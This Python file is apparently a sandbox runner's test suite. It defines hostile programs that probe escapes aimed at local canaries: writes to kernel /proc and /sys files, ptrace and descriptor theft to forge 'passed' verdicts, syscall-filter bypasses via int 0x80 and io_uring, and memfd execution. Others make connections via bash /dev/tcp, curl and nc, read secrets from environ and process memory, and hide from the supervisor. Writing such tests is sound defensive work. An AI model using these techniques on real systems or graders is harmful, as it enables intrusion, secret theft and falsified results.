    paths = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
             "/proc/sys/fs/binfmt_misc/register", "/sys/fs/cgroup/cgroup.procs", "/proc/sys/vm/overcommit_memory", "/sys/power/state",
             "/proc/1/oom_score_adj", "/proc/sys/kernel/ns_last_pid", "/proc/sys/kernel/hostname", "/proc/acpi/wakeup",
             *glob.glob("/sys/fs/cgroup/*/release_agent"), *glob.glob("/sys/class/*/*/uevent")[:50], *glob.glob("/sys/kernel/debug/*")[:20]]
    opened = []
    for path in paths:
        try:
            os.close(os.open(path, os.O_WRONLY))
            opened.append(path)
            print("ESCAPED", path)
        except OSError:
            pass
    return opened
""",
)
_called(
    "b_escape_privileged_calls",
    "escape",
    "a round of system calls only an administrator may make, each with an argument that changes nothing",
    r"""
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    name = socket.gethostname().encode()
    log = ctypes.create_string_buffer(4096)
    calls = {
        "sethostname": lambda: libc.sethostname(name, len(name)),
        "mount": lambda: libc.mount(b"none", b"/mnt", b"tmpfs", 1, b"size=4k"),
        "cgroup": lambda: libc.mount(b"none", b"/mnt", b"cgroup", 0, b"rdma"),
        "iopl": lambda: libc.iopl(3),
        "ioperm": lambda: libc.ioperm(0x80, 1, 1),
        "klogctl": lambda: min(libc.klogctl(3, log, 4096), 0),
        "init_module": lambda: libc.syscall(175, b"not a module", 12, b""),
        "bpf": lambda: min(libc.syscall(321, 11, bytes(120), 120), 0),
        "perf_event_open": lambda: min(libc.syscall(298, bytes(128), -1, 0, -1, 0), 0),
        "userfaultfd": lambda: min(libc.syscall(323, 0), 0),
        "setuid": lambda: libc.setresuid(0, 0, 0) if os.getuid() else -1,
        "setgroups": lambda: libc.setgroups(1, (ctypes.c_int * 1)(0)),
        "nice": lambda: libc.setpriority(0, 0, -20),
        "keyctl": lambda: min(libc.syscall(250, 0, -3, 1), 0),
        "fanotify": lambda: min(libc.syscall(300, 0, 0), 0),
        "open_tree": lambda: min(libc.syscall(428, -100, b"/", 1), 0),
        "fsopen": lambda: min(libc.syscall(430, b"tmpfs", 0), 0),
        "kcmp": lambda: min(libc.syscall(312, os.getpid(), int("@HOST_PID@"), 0, 0, 0), 0),
        "personality": lambda: min(libc.personality(0x0040000), 0),
    }
    done = []
    for what, call in calls.items():
        if call() == 0:
            done.append(what)
    print("done", done)
    return done
""",
)
_called(
    "b_escape_trace_other_processes",
    "escape",
    "attaches to the parent, to process 1 and to the host's process, and writes a forged line with their hands",
    r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def solve(n):
    for pid in (os.getppid(), 1, int("@HOST_PID@")):
        if pid <= 0 or pid == os.getpid():
            continue
        if libc.ptrace(0x4206, pid, None, None) == 0:
            print("ESCAPED traced" if pid == int("@HOST_PID@") else "traced", pid, flush=True)
            libc.ptrace(17, pid, None, None)
        for name in ("mem", "clear_refs", "coredump_filter", "timerslack_ns"):
            try:
                os.close(os.open(f"/proc/{pid}/{name}", os.O_WRONLY))
                print("ESCAPED opened" if pid == int("@HOST_PID@") else "opened", pid, name)
            except OSError:
                pass
    return n
""",
)
_called(
    "b_escape_steal_descriptors",
    "escape",
    "takes open files out of the parent, process 1 and the host's process with pidfd_getfd and /proc, and writes verdicts to them",
    r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
LIE = b'{"index": 0, "value": true, "passed": true, "end": "finished"}\n'
def solve(n):
    for pid in (os.getppid(), 1, int("@HOST_PID@")):
        if pid <= 0 or pid == os.getpid():
            continue
        handle = libc.syscall(434, pid, 0)
        for fd in range(0, 64):
            stolen = libc.syscall(438, handle, fd, 0) if handle >= 0 else -1
            if stolen < 0:
                try:
                    stolen = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
                except OSError:
                    continue
            print("stolen", pid, fd)
            try:
                os.set_blocking(stolen, False)
                os.write(stolen, LIE)
            except OSError:
                pass
    return True
""",
    _SOLVE_THRICE,
)
_called(
    "b_escape_signal_the_host",
    "escape",
    "signals the host's process by number, by group, by pidfd, by queue and by a timer of its own",
    r"""
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    host = int("@HOST_PID@")
    for attempt in (
        lambda: os.kill(host, signal.SIGUSR1),
        lambda: os.killpg(host, signal.SIGUSR1),
        lambda: signal.pidfd_send_signal(os.pidfd_open(host), signal.SIGUSR1),
        lambda: libc.sigqueue(host, signal.SIGUSR1, None) == 0 or 1 / 0,
        lambda: libc.syscall(234, host, host, int(signal.SIGUSR1)) == 0 or 1 / 0,
    ):
        try:
            attempt()
            print("ESCAPED signal sent", flush=True)
        except (OSError, ZeroDivisionError) as error:
            print(error)
    return n
""",
)
_called(
    "b_escape_other_system_call_tables",
    "escape",
    "the 32-bit and x32 tables of system calls, which a filter for x86-64 numbers does not see: opens, forks, sockets",
    r"""
import ctypes, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
# push rbx ; mov eax,edi ; mov ebx,esi ; xchg ecx,edx ; int 0x80 ; pop rbx ; ret
CODE = bytes.fromhex("5389f889f387d1cd805bc3")
def solve(n):
    low = libc.mmap(None, 8192, 7, 0x22 | 0x40, -1, 0)
    ctypes.memmove(low, CODE, len(CODE))
    old = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(low)
    data = low + 4096
    path = b"@CANARY@/cohort-canary-int80\0"
    ctypes.memmove(data, path, len(path))
    fd = old(5, data, os.O_CREAT | os.O_WRONLY, 0o644)
    print("open by int 0x80:", fd, "ESCAPED" if fd >= 0 else "")
    secret = b"@SECRET_FILE@\0"
    ctypes.memmove(data, secret, len(secret))
    fd = old(5, data, os.O_RDONLY, 0)
    if fd >= 0:
        print(os.read(fd, 1000))
    address = struct.pack("<H", socket.AF_INET) + struct.pack("!H", int("@PORT@")) + bytes([127, 0, 0, 1]) + bytes(8)
    ctypes.memmove(data, address, len(address))
    for kind, sock in (("int80", old(359, 2, 1, 0)), ("x32", libc.syscall(0x40000000 | 41, 2, 1, 0))):
        if sock >= 0:
            print(kind, "socket", sock)
            if old(362, sock, data, 16) == 0:
                os.write(sock, b"@MARKER@")
                print("ESCAPED", kind)
    pid = old(2, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    print("fork by int 0x80:", pid)
    return n
""",
)
_called(
    "b_escape_ring_of_requests",
    "escape",
    "asks the kernel through io_uring to open, make a socket and connect: no system call of that name is ever made",
    r"""
import ctypes, mmap, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 8, parameters)
    if ring < 0:
        return os.strerror(ctypes.get_errno())
    entries, cqes = struct.unpack_from("II", parameters, 0)
    sq = struct.unpack_from("IIIIIII", parameters, 40)
    cq = struct.unpack_from("IIIIII", parameters, 80)
    requests = mmap.mmap(ring, sq[6] + entries * 4, offset=0)
    results = mmap.mmap(ring, cq[5] + cqes * 16, offset=0x8000000)
    slots = mmap.mmap(ring, entries * 64, offset=0x10000000)
    def ask(opcode, fd, offset, address, length, flags):
        slots[0:64] = struct.pack("<BBHiQQII", opcode, 0, 0, fd, offset, address, length, flags).ljust(64, b"\0")
        requests[sq[6]:sq[6] + 4] = struct.pack("I", 0)
        tail = struct.unpack_from("I", requests, sq[1])[0]
        requests[sq[6] + 4 * (tail % entries):sq[6] + 4 * (tail % entries) + 4] = struct.pack("I", 0)
        requests[sq[1]:sq[1] + 4] = struct.pack("I", tail + 1)
        libc.syscall(426, ring, 1, 1, 1, None, 0)
        head = struct.unpack_from("I", results, cq[0])[0]
        answer = struct.unpack_from("i", results, cq[5] + (head % cqes) * 16 + 8)[0]
        results[cq[0]:cq[0] + 4] = struct.pack("I", head + 1)
        return answer
    path = ctypes.create_string_buffer(b"@CANARY@/cohort-canary-ring")
    print("open", ask(18, -100, 0, ctypes.addressof(path), 0o644, os.O_CREAT | os.O_WRONLY))
    path = ctypes.create_string_buffer(b"@SECRET_FILE@")
    fd = ask(18, -100, 0, ctypes.addressof(path), 0, os.O_RDONLY)
    if fd >= 0:
        print(os.read(fd, 1000))
    sock = ask(45, socket.AF_INET, socket.SOCK_STREAM, 0, 0, 0)
    address = ctypes.create_string_buffer(struct.pack("<H", 2) + struct.pack("!H", int("@PORT@")) + bytes([127, 0, 0, 1]) + bytes(8))
    print("socket", sock, "connect", ask(16, sock, 16, ctypes.addressof(address), 0, 0))
    return n
""",
)
_called(
    "b_escape_program_from_memory",
    "escape",
    "runs programs that have no file: a memfd with an interpreter in it, by fexecve and execveat, and by the dynamic loader",
    r"""
import ctypes, glob, os, sys
libc = ctypes.CDLL(None, use_errno=True)
CODE = "open('@CANARY@/cohort-canary-memfd', 'w').close()"
def solve(n):
    fd = os.memfd_create("cohort", 0)
    with open(os.path.realpath(sys.executable), "rb") as handle:
        os.sendfile(fd, handle.fileno(), 0, 1 << 27)
    if os.fork() == 0:
        try:
            os.execve(fd, ["x", "-c", CODE], {"PYTHONHOME": sys.prefix})
        finally:
            os._exit(1)
    script = os.memfd_create("script", 0)
    os.write(script, b"#!/bin/sh\ntouch @CANARY@/cohort-canary-script\n")
    if os.fork() == 0:
        libc.syscall(322, script, b"", (ctypes.c_char_p * 2)(b"x", None), (ctypes.c_char_p * 1)(None), 0x1000)
        os._exit(1)
    for loader in glob.glob("/lib*/ld-linux*.so*") + glob.glob("/lib/*/ld-linux*.so*"):
        if os.fork() == 0:
            try:
                os.execv(loader, [loader, sys.executable, "-c", CODE])
            finally:
                os._exit(1)
    for _ in range(3):
        try:
            print(os.wait())
        except ChildProcessError:
            break
    return n
""",
)
_called(
    "b_escape_plant_in_the_interpreter",
    "escape",
    "plants start-up files in the interpreter's folders, its caches and the user's configuration, for the host to run later",
    r"""
import os, site, sys, sysconfig
def solve(n):
    places = {*sys.path, *sysconfig.get_paths().values(), sys.prefix, sys.base_prefix, os.path.dirname(os.__file__),
              os.path.dirname(os.__file__) + "/__pycache__", os.path.dirname(os.__file__) + "/encodings", os.path.dirname(sys.executable),
              site.getusersitepackages(), os.path.expanduser("~"), os.path.expanduser("~/.config"), os.path.expanduser("~/.cache"),
              "/etc", "/etc/ld.so.conf.d", "/etc/profile.d", "/usr/local/bin", "/usr/local/lib", "/root"}
    for place in places:
        for name, text in (("cohort-canary-plant.pth", "# canary\n"), ("cohort-canary-plant.py", "# canary\n"), ("cohort-canary-plant.pyc", "")):
            try:
                with open(os.path.join(place, name), "w") as handle:
                    handle.write(text)
                print("wrote", place, name)
            except OSError:
                pass
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None)
        for target in (path, getattr(module, "__cached__", None)):
            if target and os.path.exists(target) and "cohort" not in os.path.basename(target):
                try:
                    os.close(os.open(target, os.O_RDWR))
                    print("ESCAPED writable", target)
                    break
                except OSError:
                    pass
    return n
""",
)
_script(
    "b_escape_terminal_injection",
    "escape",
    "pushes a harmless comment line into the controlling terminal's input, and takes the terminal over",
    r"""
import fcntl, os, signal
for path in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2", "/dev/pts/0", "/dev/console"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        for byte in b"#cohort-canary\n":
            fcntl.ioctl(fd, 0x5412, bytes([byte]))
        print("ESCAPED", path)
    except OSError as error:
        print(path, error)
try:
    signal.signal(signal.SIGTTOU, signal.SIG_IGN)
    os.tcsetpgrp(0, os.getpgrp())
    print("ESCAPED foreground")
except OSError as error:
    print(error)
""",
)

# ---------------------------------------------------------------------------------------------------------------------- network

_called(
    "b_network_many_spellings",
    "network",
    "connects to the planted port under every spelling of the local machine",
    r"""
import socket
def solve(n):
    port, made = int("@PORT@"), []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET, "127.1"), (socket.AF_INET, "127.0.0.2"),
                         (socket.AF_INET6, "::1"), (socket.AF_INET6, "::ffff:127.0.0.1"), (socket.AF_INET, "localhost")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as peer:
                peer.settimeout(0.5)
                peer.connect((host, port))
                peer.send(b"@MARKER@")
                made.append(host)
        except OSError as error:
            print(host, error)
    return made
""",
)
_called(
    "b_network_datagrams_and_raw",
    "network",
    "datagrams, fast-open, raw and packet sockets to the planted ports",
    r"""
import socket
def solve(n):
    for family, kind, protocol in ((2, socket.SOCK_DGRAM, 0), (2, socket.SOCK_RAW, 1), (2, socket.SOCK_RAW, 255), (17, socket.SOCK_RAW, 0x0300),
                                   (2, socket.SOCK_SEQPACKET, 132), (2, socket.SOCK_DGRAM, 136), (2, 6, 33), (10, socket.SOCK_DGRAM, 0)):
        try:
            with socket.socket(family, kind, protocol) as peer:
                peer.settimeout(0.3)
                print("made", family, kind, protocol)
                peer.sendto(b"@MARKER@", ("127.0.0.1" if family != 10 else "::1", int("@UDP_PORT@")))
        except (OSError, TypeError) as error:
            print(family, kind, error)
    try:
        with socket.socket() as peer:
            peer.sendto(b"@MARKER@", 0x20000000, ("127.0.0.1", int("@PORT@")))
            print("fast open")
    except OSError as error:
        print(error)
    return n
""",
)
_called(
    "b_network_abstract_and_named_sockets",
    "network",
    "unix sockets: the abstract name, the path, the path through a link, through /proc, and as datagram",
    r"""
import os, socket, tempfile
def solve(n):
    link = tempfile.mkdtemp(prefix="cohort-canary-") + "/s"
    os.symlink("@UNIX_PATH@", link)
    for address in ("\0@ABSTRACT@", "@UNIX_PATH@", link, "/proc/@HOST_PID@/root@UNIX_PATH@", "/proc/1/root@UNIX_PATH@"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            try:
                with socket.socket(socket.AF_UNIX, kind) as peer:
                    peer.settimeout(0.5)
                    peer.connect(address)
                    peer.send(b"@MARKER@")
                    print("ESCAPED", address)
            except OSError as error:
                print(repr(address), error)
    return n
""",
)
_called(
    "b_network_raise_the_loopback",
    "network",
    "brings the loopback interface up by ioctl and netlink, adds a route, then connects",
    r"""
import fcntl, os, socket, struct
def solve(n):
    control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for name in (b"lo", b"eth0"):
        try:
            fcntl.ioctl(control, 0x8914, struct.pack("16sH14s", name, 0x41, b""))
        except OSError as error:
            print(name, error)
    try:
        link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        link.send(struct.pack("=LHHLL", 32, 16, 5, 1, 0) + struct.pack("=BBHiII", 0, 0, 0, 1, 1, 1))
        print(link.recv(4096)[:40])
    except OSError as error:
        print(error)
    with socket.socket() as peer:
        peer.settimeout(1)
        peer.connect(("127.0.0.1", int("@PORT@")))
        peer.send(b"@MARKER@")
    return os.listdir("/sys/class/net")
""",
)
_called(
    "b_network_by_other_programs",
    "network",
    "lets the shell, curl, wget, nc, perl and another interpreter make the connection",
    r"""
import shutil, subprocess, sys
COMMANDS = (
    ["bash", "-c", "echo @MARKER@ > /dev/tcp/127.0.0.1/@PORT@"],
    ["bash", "-c", "echo @MARKER@ > /dev/udp/127.0.0.1/@UDP_PORT@"],
    ["curl", "-m1", "http://127.0.0.1:@PORT@/@MARKER@"],
    ["wget", "-T1", "-t1", "-O-", "http://127.0.0.1:@PORT@/@MARKER@"],
    ["nc", "-w1", "127.0.0.1", "@PORT@"],
    ["perl", "-MIO::Socket::INET", "-e", "IO::Socket::INET->new(PeerAddr=>'127.0.0.1:@PORT@')->print('@MARKER@')"],
    [sys.executable, "-I", "-c", "import socket; socket.create_connection(('127.0.0.1', @PORT@), 1).send(b'@MARKER@')"],
)
def solve(n):
    for command in COMMANDS:
        if shutil.which(command[0]):
            try:
                print(subprocess.run(command, input=b"@MARKER@", capture_output=True, timeout=2))
            except (OSError, subprocess.TimeoutExpired) as error:
                print(error)
    return n
""",
)
_called(
    "b_network_server_waits_for_the_host",
    "network",
    "listens on every interface and on high ports, printing where, for someone outside to connect",
    r"""
import socket, time
def solve(n):
    held = []
    for family, host in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::"), (socket.AF_INET, "127.0.0.1")):
        try:
            server = socket.socket(family)
            server.bind((host, 0))
            server.listen()
            held.append(server)
            print("listening", server.getsockname(), flush=True)
        except OSError as error:
            print(error)
    time.sleep(1)
    return [server.getsockname()[1] for server in held]
""",
)
_called(
    "b_network_strange_families",
    "network",
    "tries every socket family there is: vsock to the machine's host, crypto, netlink, bluetooth, XDP, TIPC, kernel connection multiplexer",
    r"""
import socket
def solve(n):
    made = []
    for family in range(1, 46):
        for kind in (1, 2, 3, 5):
            try:
                peer = socket.socket(family, kind, 0)
            except (OSError, ValueError):
                continue
            made.append((family, kind))
            peer.settimeout(0.05)
            if family == 40:
                for context in (0, 1, 2):
                    try:
                        peer.connect((context, int("@PORT@")))
                        print("ESCAPED vsock", context)
                    except OSError:
                        pass
            peer.close()
    print(made)
    return len(made)
""",
)
_called(
    "b_network_inherited_socket",
    "network",
    "uses sockets that are already open: sends, asks for their peers, and disconnects and reconnects them to the planted port",
    r"""
import os, socket
def solve(n):
    for fd in range(0, 256):
        try:
            peer = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            print(fd, peer.family, peer.type, peer.getsockname(), peer.getpeername(), peer.getsockopt(1, 17, 12))
        except OSError as error:
            print(fd, error)
        if peer.family in (socket.AF_INET, socket.AF_INET6):
            try:
                peer.connect(("127.0.0.1", int("@PORT@")))
                peer.send(b"@MARKER@")
                print("ESCAPED")
            except OSError as error:
                print(error)
    return n
""",
)

# ----------------------------------------------------------------------------------------------------------------------- secret

_called(
    "b_secret_environment_everywhere",
    "secret",
    "the planted variable in os.environ, in the C library, on the process's first stack and in /proc of everyone",
    r"""
import ctypes, os, re
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
def solve(n):
    found = [os.environ.get("@SECRET_NAME@"), libc.getenv(b"@SECRET_NAME@")]
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                if "[stack]" in line or "[heap]" in line:
                    low, high = (int(x, 16) for x in line.split()[0].split("-"))
                    memory.seek(low)
                    found += re.findall(rb"@SECRET_NAME@=[^\0]+", memory.read(high - low))
    except (OSError, ValueError) as error:
        print(error)
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "@HOST_PID@"]:
        for part in ("environ", "cmdline", "auxv"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    found += re.findall(rb"@SECRET_NAME@=[^\0]*", handle.read())
            except OSError:
                pass
    print(found)
    return repr(found)
""",
)
_called(
    "b_secret_by_a_fresh_interpreter",
    "secret",
    "starts children with cleared, inherited and login environments and prints what they see",
    r"""
import os, subprocess, sys
def solve(n):
    for command in (["env"], ["/usr/bin/env"], ["sh", "-lc", "env; set"], ["bash", "-ic", "env"], ["cat", "/proc/1/environ"],
                    ["cat", "/proc/@HOST_PID@/environ"], [sys.executable, "-c", "import os; print(os.environ)"]):
        try:
            print(subprocess.run(command, capture_output=True, timeout=1).stdout[:5000])
        except (OSError, subprocess.TimeoutExpired) as error:
            print(error)
    return n
""",
)
_called(
    "b_secret_file_by_many_doors",
    "secret",
    "reads the planted file by open, mmap, link, tokenizer, import, shell, another root and a copy in the kernel",
    r"""
import ctypes, glob, importlib.util, linecache, mmap, os, pathlib, shutil, subprocess, tempfile, tokenize
PATH = "@SECRET_FILE@"
def linked(make):
    name = tempfile.mkdtemp(prefix="cohort-canary-") + "/x"
    make(PATH, name)
    return open(name).read()
def mapped():
    with open(PATH, "rb") as handle:
        return mmap.mmap(handle.fileno(), 0, prot=mmap.PROT_READ)[:]
def by_c():
    libc = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(4096)
    fd = libc.open(PATH.encode(), 0)
    libc.read(fd, buffer, 4096)
    return buffer.value
def solve(n):
    for door in (
        lambda: open(PATH).read(),
        lambda: pathlib.Path(PATH).read_bytes(),
        lambda: open("/proc/self/root" + PATH).read(),
        lambda: open("/proc/1/root" + PATH).read(),
        lambda: open("/proc/@HOST_PID@/root" + PATH).read(),
        lambda: open("../" * 20 + PATH.lstrip("/")).read(),
        lambda: linked(os.link),
        lambda: linked(os.symlink),
        lambda: linked(shutil.copy),
        mapped,
        by_c,
        lambda: linecache.getlines(PATH),
        lambda: list(tokenize.generate_tokens(open(PATH).readline)),
        lambda: importlib.util.spec_from_file_location("x", PATH).loader.get_data(PATH),
        lambda: subprocess.run(["cat", PATH], capture_output=True, timeout=1).stdout,
        lambda: subprocess.run(["dd", "if=" + PATH], capture_output=True, timeout=1).stdout,
        lambda: subprocess.run(["sh", "-c", ". " + PATH], capture_output=True, timeout=1).stderr,
        lambda: [open(p).read() for p in glob.glob(os.path.dirname(PATH) + "/*")],
    ):
        try:
            print(door())
        except Exception as error:
            print(type(error).__name__, error)
    return n
""",
)
_called(
    "b_secret_file_descriptors",
    "secret",
    "reads whatever is already open, from the start, and lists what every descriptor of every process is",
    r"""
import os
def solve(n):
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                where = os.readlink(f"/proc/{pid}/fd/{fd}")
                print(pid, fd, where)
                if where.startswith("/") and not where.startswith("/dev"):
                    with open(f"/proc/{pid}/fd/{fd}", "rb") as handle:
                        print(handle.read(500))
            except OSError:
                pass
    for fd in range(0, 256):
        try:
            print(fd, os.pread(fd, 500, 0))
        except OSError:
            pass
    return n
""",
)
_called(
    "b_secret_memory_of_the_parent",
    "secret",
    "searches the memory of the parent and of the host's process for the planted variable",
    r"""
import os, re
def solve(n):
    for pid in (os.getppid(), 1, int("@HOST_PID@")):
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    if "[stack]" in line or "[heap]" in line:
                        low, high = (int(x, 16) for x in line.split()[0].split("-"))
                        memory.seek(low)
                        print(re.findall(rb"@SECRET_NAME@=[^\0]+", memory.read(high - low)))
        except (OSError, ValueError) as error:
            print(pid, error)
    return n
""",
)
_called(
    "b_secret_fresh_pages",
    "secret",
    "looks for left-overs: memory never written by this process, files grown without writing, pipes, the shared memory of others",
    r"""
import ctypes, glob, os, re, tempfile
libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
def solve(n):
    found = []
    for size in (1 << 12, 1 << 16, 1 << 20):
        for _ in range(60):
            address = libc.malloc(ctypes.c_size_t(size))
            found += re.findall(rb"@SECRET_NAME@=[^\0]+", ctypes.string_at(address, size))
    fd = os.open(tempfile.gettempdir(), os.O_TMPFILE | os.O_RDWR)
    os.posix_fallocate(fd, 0, 8 << 20)
    if os.pread(fd, 8 << 20, 0).strip(b"\0"):
        found.append("old blocks")
    for path in glob.glob("/dev/shm/*") + glob.glob("/tmp/*") + glob.glob("/var/tmp/*") + glob.glob("/dev/mqueue/*"):
        print("seen", path)
    print(found)
    return len(found)
""",
)
_called(
    "b_secret_by_exit_status_and_time",
    "secret",
    "if the planted file can be read, says it with the exit status and with how long it sleeps",
    r"""
import os, time
def solve(n):
    try:
        with open("@SECRET_FILE@", "rb") as handle:
            data = handle.read()
    except OSError:
        data = (os.environ.get("@SECRET_NAME@") or "").encode()
    if data:
        print(data.hex(), data[::-1], flush=True)
        time.sleep(data[0] / 256)
        os._exit(data[1] if len(data) > 1 else 1)
    return 0
""",
)
_called(
    "b_secret_map_of_the_machine",
    "secret",
    "lists what it can see of the machine: mounts, processes, users, home folders, the repository",
    r"""
import os
def solve(n):
    for path in ("/proc/self/mountinfo", "/proc/self/cgroup", "/proc/self/status", "/proc/net/tcp", "/proc/net/unix", "/etc/hostname", "/proc/cmdline"):
        try:
            with open(path) as handle:
                print(path, handle.read(3000))
        except OSError as error:
            print(error)
    seen = {}
    for path in ("/", "/root", "/home", "/srv", "/opt", "/tmp", "/var/tmp", "/run", "/mnt", "/srv", "/opt", os.path.dirname("@SECRET_FILE@"), "@CANARY@"):
        try:
            seen[path] = len(os.listdir(path))
        except OSError:
            pass
    print(seen)
    return seen
""",
)
_script(
    "b_secret_script_error_shows_source",
    "secret",
    "makes the interpreter itself show the planted file: as module, as program, as configuration, in its error message",
    r"""
import os, subprocess, sys
for command in (
    [sys.executable, "@SECRET_FILE@"],
    [sys.executable, "-m", "tokenize", "@SECRET_FILE@"],
    [sys.executable, "-m", "base64", "-e", "@SECRET_FILE@"],
    ["bash", "@SECRET_FILE@"],
    ["env", "-S", "@SECRET_FILE@"],
    ["/lib64/ld-linux-x86-64.so.2", "@SECRET_FILE@"],
    ["grep", "-r", "", os.path.dirname("@SECRET_FILE@")],
):
    try:
        done = subprocess.run(command, capture_output=True, timeout=1)
        print(done.stdout[:2000], done.stderr[:2000])
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
""",
)

# ---------------------------------------------------------------------------------------------------------------- a few more games

_called(
    "b_disk_scratch_folder_gone",
    "forgery",
    "takes away the folders the host means to clean up and leaves links to the canary folder in their place",
    r"""
import os, tempfile
def visible():
    try:
        os.kill(int("@HOST_PID@"), 0)
    except ProcessLookupError:
        return False
    except OSError:
        pass
    return True
def solve(n):
    if visible():
        return 0
    for folder in {os.getcwd(), tempfile.gettempdir()}:
        try:
            if len(os.listdir(folder)) > 20 or os.path.exists(folder + "/.git"):
                continue
            os.rename(folder, folder + "-cohort-canary-moved")
            os.symlink("@CANARY@", folder)
        except OSError as error:
            print(folder, error)
        try:
            os.chmod(folder, 0)
            os.rmdir(folder)
        except OSError as error:
            print(folder, error)
    return n
""",
)
_called(
    "b_hidden_from_the_supervisor",
    "hang",
    "not dumpable, so that an unprivileged supervisor may not read its /proc files, in a new session, then uses CPU and memory",
    r"""
import ctypes, os
libc = ctypes.CDLL(None)
def solve(n):
    libc.prctl(4, 0, 0, 0, 0)
    libc.prctl(1, 0, 0, 0, 0)
    if os.fork() == 0:
        os.setsid()
    held = []
    while True:
        if len(held) < 2000:
            held.append(bytearray(os.urandom(1 << 10)) * 1024)
""",
)
_called(
    "b_landlock_around_the_runner",
    "forgery",
    "a Landlock rule set of the program's own: nothing can be opened, made or removed by the runner from now on",
    r"""
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    rules = ctypes.create_string_buffer(struct.pack("Q", 0x1FFF))
    fd = libc.syscall(444, rules, 8, 0)
    libc.prctl(38, 1, 0, 0, 0)
    print(fd, libc.syscall(446, fd, 0), flush=True)
    import tabnanny
    return tabnanny.__name__
""",
    _SOLVE_THRICE,
)
_called(
    "b_crash_between_answers",
    "forgery",
    "answers once, then reads address zero: answers already given and answers never given must not be mixed up",
    r"""
import ctypes
def solve(n):
    if n > 17:
        ctypes.string_at(0)
    return True
""",
    _SOLVE_THRICE,
)
_called(
    "b_loaded_halfway",
    "forgery",
    "defines its function and then raises while loading: nothing of it may be called",
    r"""
def solve(n):
    return n
raise SystemExit(0)
""",
    _asks(17),
)
_called(
    "b_arguments_rewritten",
    "forgery",
    "changes the arguments it is given and returns them, for a host that compares with the same objects afterwards",
    r"""
def solve(items, table):
    items.clear()
    table.clear()
    table["self"] = None
    return items
""",
    (Ask("solve", ([3, 1, 2], {"a": 1}), [1, 2, 3]), Ask("solve", ([], {}), None)),
)
_called(
    "b_seed_of_the_host",
    "forgery",
    "hopes that the wanted value comes from a generator it can seed alike: the time, the process id, the usual constants",
    r"""
import os, random, time
def solve(n):
    for seed in (0, 1, 17, 42, 1234, os.getpid(), os.getppid(), int(time.time())):
        random.seed(seed)
        print(seed, [random.getrandbits(43) for _ in range(5)])
    random.seed(0)
    return random.getrandbits(43)
""",
)
_script(
    "b_script_warnings_without_end",
    "output",
    "resource warnings, never-awaited coroutines and failing finalisers: messages the interpreter writes by itself",
    r"""
import gc, warnings
warnings.simplefilter("always")
class Fails:
    def __del__(self):
        raise ValueError("z" * 10_000)
async def never():
    pass
for _ in range(100_000):
    Fails()
    never()
    open("/dev/null")
""",
)

# ------------------------------------------------------------------------------------------------------- texts Python itself refuses


def _refused(name: str, aims_at: str, source: str) -> None:
    NOT_PYTHON.append(HostileProgram(name, "forgery", source, calls=_SOLVE, aims_at=aims_at))


_refused(
    "b_source_lone_surrogate", "text that cannot be encoded: the host's own write of the program may raise", "x = '\ud800'\n"
)
_refused(
    "b_source_null_byte",
    "a zero byte in the program: a file, an argument or a C string ends there",
    "def solve(n):\n    return 1\n\x00\n",
)
_refused("b_source_too_deep", "parentheses too deep for the parser", "x = " + "(" * 100_000 + ")" * 100_000 + "\n")
_refused("b_source_unary_tower", "an expression so deep that the compiler itself may crash", "x = " + "-" * 1_000_000 + "1\n")
_refused("b_source_bad_cookie", "an encoding nobody knows, in a file", "# coding: cohort-unknown\ndef solve(n) return 1\n")
_refused("b_source_empty", "no program at all (Python takes it, but nothing in it can be called)", "")
